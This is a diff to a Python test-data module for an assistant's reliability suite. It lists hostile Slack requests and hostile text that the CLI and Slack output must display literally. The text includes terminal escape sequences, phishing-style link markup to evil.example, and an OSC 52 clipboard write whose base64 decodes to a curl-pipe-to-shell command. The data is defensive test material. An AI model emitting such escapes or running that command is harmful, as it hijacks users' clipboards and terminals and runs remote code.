@@ -1,7 +1,8 @@
 """What the reliability suite tries, as data: the tests are parametrised from these lists and the
 README's figures table is rendered from them (``test_figures`` keeps the two in step)."""
 
-from typing import Any
+from collections.abc import Callable
+from typing import Any, NamedTuple
 
 from tests.fakes import Malformed, OpenAIReply, Stall
 from tests.reliability.files import DOCUMENTS
@@ -93,6 +94,77 @@ SECRETS: dict[str, str] = {
     "Slack: answers, 401, 500, a bad signature, a failing Web API": "test_slack",
 }
 
+
+class SlackRequest(NamedTuple):
+    """A request to the Slack bot's events URL: its body (built when sent), its headers (an
+    empty Content-Length leaves the header out), how many seconds ago it was signed with the
+    real secret (None: unsigned), and the status it must get."""
+
+    body: Callable[[], bytes]
+    headers: dict[str, str]
+    signed_ago: float | None
+    status: int
+
+
+FORM = {"Content-Type": "application/x-www-form-urlencoded"}
+JSON = {"Content-Type": "application/json"}
+BAD_SIGNATURE = {"X-Slack-Request-Timestamp": "1700000000", "X-Slack-Signature": "v0=00"}
+SLACK_REQUESTS: dict[str, SlackRequest] = {
+    "28 MB unsigned form body (`a=b&` repeated)":
+        SlackRequest(lambda: b"a=b&" * 7_000_000, FORM, None, 413),
+    "30 MB unsigned JSON array":
+        SlackRequest(lambda: b"[" + b"0," * 15_000_000 + b"0]", JSON, None, 413),
+    "900 kB unsigned form body": SlackRequest(lambda: b"a=b&" * 225_000, FORM, None, 401),
+    "timestamp not a number": SlackRequest(
+        lambda: b"{}", {**JSON, **BAD_SIGNATURE, "X-Slack-Request-Timestamp": "soon"}, None, 401),
+    "timestamp of 5,000 digits": SlackRequest(
+        lambda: b"{}", {**JSON, **BAD_SIGNATURE, "X-Slack-Request-Timestamp": "9" * 5000},
+        None, 401),
+    "signature with non-ASCII characters": SlackRequest(
+        lambda: b"{}", {**JSON, **BAD_SIGNATURE, "X-Slack-Signature": "v0=\u00e9\u00e9"},
+        None, 401),
+    "body not JSON": SlackRequest(lambda: b"{not json", {**JSON, **BAD_SIGNATURE}, None, 401),
+    "body not UTF-8": SlackRequest(lambda: b'{"a": "\xff\xfe"}', {**JSON, **BAD_SIGNATURE},
+                                   None, 401),
+    "no Content-Length": SlackRequest(lambda: b"{}", {**JSON, "Content-Length": ""}, None, 401),
+    "Content-Length not a number": SlackRequest(
+        lambda: b"{}", {**JSON, "Content-Length": "two"}, None, 401),
+    "body shorter than its Content-Length": SlackRequest(
+        lambda: b"{}", {**JSON, "Content-Length": "1000"}, None, 401),
+    "signed with the real secret an hour ago": SlackRequest(lambda: b"{}", JSON, 3600, 401),
+    "signed, body not JSON": SlackRequest(lambda: b"{not json", JSON, 0, 400),
+    "signed, body a JSON array": SlackRequest(lambda: b"[1, 2]", JSON, 0, 400),
+}
+
+# kind -> text a document or a model puts in front of a reader (terminal, Slack)
+HOSTILE_TEXT: dict[str, str] = {
+    "Rich markup `[/]`": "closing [/] tag",
+    "Rich link markup `[link=…]…[/link]`": "[link=https://evil.example/login]account page[/link]",
+    "an emoji code posing as a status": ":white_check_mark: Verified",
+    "OSC 52 clipboard write": "copy \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 this",
+    "ANSI colour and cursor codes": "\x1b[2J\x1b[31mred\x1b[0m\x1b[1A text",
+    "C1 controls (8-bit CSI and OSC)": "\x9b2J cleared \x9d0;title\x9c",
+    "a carriage return that overwrites the line": "late\rEARLY",
+    "Slack mrkdwn `*bold*` `_italic_` `~strike~` `` `code` ``": "*bold* _italic_ ~strike~ `code`",
+    "Slack mention and link markup `<!channel>` `<https://…|…>`":
+        "<!channel> <https://evil.example/login|your account>",
+    "a bare URL": "https://evil.example/login",
+    "`&` at Slack's clipping point": "&" * 3100,
+}
+
+# Other hostile input, and the test that shows it handled
+MALFORMED_BASE_URLS = [
+    "localhost:11434/v1", "http://[::1", "http://localhost:99999/v1", "ftp://models.example/v1",
+    "http:///v1", "http://user:hunter2@models.example:12x/v1",
+]
+HOSTILE_OTHER: dict[str, str] = {
+    "a signed Slack button click replayed 3 times: one rating": "test_a_replayed_click_rates_once",
+    "`assistant slack` in HTTP mode listens on 127.0.0.1 unless told otherwise":
+        "test_slack_listens_on_loopback_by_default",
+    "a 20,000-character unbroken token stays inside its source card (Chromium)":
+        "test_an_unbroken_token_stays_inside_its_source_card",
+}
+
 INTERFACES = "`ask`, CLI, chat page, Slack"
 
 
@@ -115,5 +187,13 @@ def figures_table() -> str:
         row("load held", "`ask`, chat page", len(LOAD), list(LOAD)),
         row("secrets searched for (canary key and tokens)", "output, logs, files", len(SECRETS),
             list(SECRETS)),
+        row("hostile Slack requests (413, 401 or 400; no traceback)", "Slack HTTP server",
+            len(SLACK_REQUESTS), list(SLACK_REQUESTS)),
+        row("hostile text shown literally", "CLI `ask`, `search`; Slack", len(HOSTILE_TEXT),
+            list(HOSTILE_TEXT)),
+        row("malformed `OPENAI_BASE_URL` (a settings error)", "CLI", len(MALFORMED_BASE_URLS),
+            [f"`{url}`" for url in MALFORMED_BASE_URLS]),
+        row("other hostile input", "Slack, CLI, chat page", len(HOSTILE_OTHER),
+            list(HOSTILE_OTHER)),
     ]
     return "\n".join(rows)
